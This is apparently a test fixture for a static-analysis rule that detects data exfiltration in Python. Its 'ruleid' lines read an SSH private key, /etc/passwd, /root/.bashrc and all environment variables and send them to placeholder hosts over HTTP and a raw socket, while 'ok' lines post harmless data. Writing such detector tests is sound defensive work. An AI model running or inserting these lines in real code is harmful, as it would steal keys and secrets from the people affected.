"""Fixture for python.net.exfiltrate: `ruleid` lines must produce it, `ok` lines must not."""

raise SystemExit("codeward rule fixture: read by the analyzer, never run")

import os
import socket

import requests

# ruleid: python.net.exfiltrate
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
# ruleid: python.net.exfiltrate
requests.post("https://collector.example/k", data={"key": key})
# ruleid: python.net.exfiltrate
requests.post("https://collector.example/e", json=dict(os.environ))
sock = socket.socket()
sock.connect(("198.51.100.7", 9000))
# ruleid: python.net.exfiltrate
sock.sendall(open("/etc/passwd", "rb").read())
# ok: python.net.exfiltrate
requests.post("https://api.example.com/items", json={"name": "widget"})
# ruleid: python.net.exfiltrate
with open("/root/.bashrc", "rb") as profile:
    # ruleid: python.net.exfiltrate
    requests.post("http://198.51.100.4/submit", data=profile.read())
# ok: python.net.exfiltrate
requests.post("https://uploads.example.com/r", files={"f": open("report.pdf", "rb")})
